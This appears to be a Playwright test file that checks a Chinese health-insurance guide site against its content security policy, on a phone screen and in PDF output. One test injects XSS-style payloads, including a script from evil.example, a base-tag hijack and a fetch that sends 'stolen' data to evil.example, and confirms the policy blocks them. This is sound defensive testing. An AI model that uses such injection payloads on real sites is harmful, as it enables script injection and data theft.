"""Every kind of page in a real browser: it works under the content policy, on screen and paper."""

from __future__ import annotations

import json
import urllib.request
import uuid

import pytest
from playwright.sync_api import expect

pytestmark = pytest.mark.browser

WATCH = """
  window.broken = [];
  document.addEventListener("securitypolicyviolation", e =>
    window.broken.push(`${e.effectiveDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}`));
"""
PAGES = ("/", "/guide", "/guide/meizhou", "/guide/jiangmen/outpatient_reimbursement",
         "/guide?q=menzhen%20baoxiao", "/guide/nowhere", "/flow/fujian/enrolment",
         "/compare/inpatient_reimbursement?guides=meizhou,jiangmen", "/compare/employee_enrolment",
         "/notice/nowhere", "/nowhere", "/api/clause/none/none")


class Watched:
    """A page that keeps what its content policy forbade, and other errors in its console."""

    def __init__(self, page, url: str) -> None:
        self.page, self.url, self.errors = page, url, []
        page.add_init_script(WATCH)
        page.on("pageerror", lambda error: self.errors.append(str(error)))
        page.on("console", lambda said: self.errors.append(said.text)
                if said.type == "error" and "404" not in said.text else None)

    def visit(self, path: str) -> None:
        """Open a page and lay it out for screen and paper."""
        answered = self.page.goto(self.url + path, wait_until="load")
        policy = answered.headers["content-security-policy"]
        assert "default-src 'none'" in policy and "unsafe" not in policy
        self.page.pdf()

    def expect_nothing_forbidden(self) -> None:
        """Fail where anything was forbidden or went wrong."""
        assert self.page.evaluate("window.broken") == [] and self.errors == []


@pytest.fixture
def watched(browser, server):
    """A phone."""
    context = browser.new_context(viewport={"width": 360, "height": 740}, locale="zh-CN")
    yield Watched(context.new_page(), server.url)
    context.close()


@pytest.mark.parametrize("path", PAGES)
def test_a_page_asks_for_nothing_that_the_policy_forbids(watched, path) -> None:
    watched.visit(path)
    watched.expect_nothing_forbidden()


def test_a_conversation_and_its_sheet_keep_to_the_policy(watched) -> None:
    page = watched.page
    watched.visit("/")
    page.locator("textarea").fill("湖北转诊备案要什么材料")
    page.keyboard.press("Enter")
    expect(page.locator(".answer")).to_contain_text("登记备案表")
    page.locator(".cite").first.click()
    expect(page.locator("#clause blockquote")).not_to_be_empty()
    page.keyboard.press("Escape")
    page.get_by_role("button", name="字号").click()
    page.get_by_label("特大").check()
    page.pdf()
    watched.expect_nothing_forbidden()


def test_a_sheet_with_its_code_keeps_to_the_policy(watched, server) -> None:
    link = sheet_of(server)
    watched.visit(link)
    expect(watched.page.locator("svg.qr__code")).to_be_attached()
    watched.expect_nothing_forbidden()
    answered = urllib.request.urlopen(server.url + link)
    assert answered.headers["cache-control"] == "private, no-store"
    assert answered.headers["x-robots-tag"] == "noindex, nofollow"


def sheet_of(server) -> str:
    """Ask until an answer has a sheet; return the path to it."""
    replies = server.ask(uuid.uuid4().hex, "湖北转诊备案要什么材料")
    paths = [card["link"]["href"] for reply in replies
             if (card := reply.get("custom") or {}).get("link")]
    assert paths, json.dumps(replies, ensure_ascii=False)[:400]
    return paths[0]


@pytest.mark.parametrize("attack", [
    "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.hit = 1\">')",
    "document.body.append(Object.assign(document.createElement('script'),"
    " {text: 'window.hit = 1'}))",
    "document.body.append(Object.assign(document.createElement('script'),"
    " {src: 'https://evil.example/x.js'}))",
    "document.body.insertAdjacentHTML('beforeend', '<p style=\"position: fixed\">')",
    "document.head.insertAdjacentHTML('beforeend', '<base href=\"https://evil.example/\">')",
    "fetch('https://evil.example/?stolen').catch(() => 0)",
    "new WebSocket('wss://evil.example/')",
], ids=["handler", "inline", "foreign", "style", "base", "fetch", "socket"])
def test_what_gets_into_a_page_all_the_same_is_not_run(watched, attack) -> None:
    watched.visit("/guide")
    watched.page.evaluate(f"() => {{ {attack} }}")
    watched.page.wait_for_function("window.broken.length > 0", timeout=10_000)
    assert watched.page.evaluate("window.hit") is None


def test_a_page_is_not_shown_in_a_frame_of_another_site(watched, server) -> None:
    page = watched.page
    page.set_content("<iframe></iframe>")
    with page.expect_event("requestfailed", timeout=10_000) as failed:
        page.evaluate("url => { document.querySelector('iframe').src = url }", server.url)
    assert "ERR_BLOCKED_BY_RESPONSE" in failed.value.failure
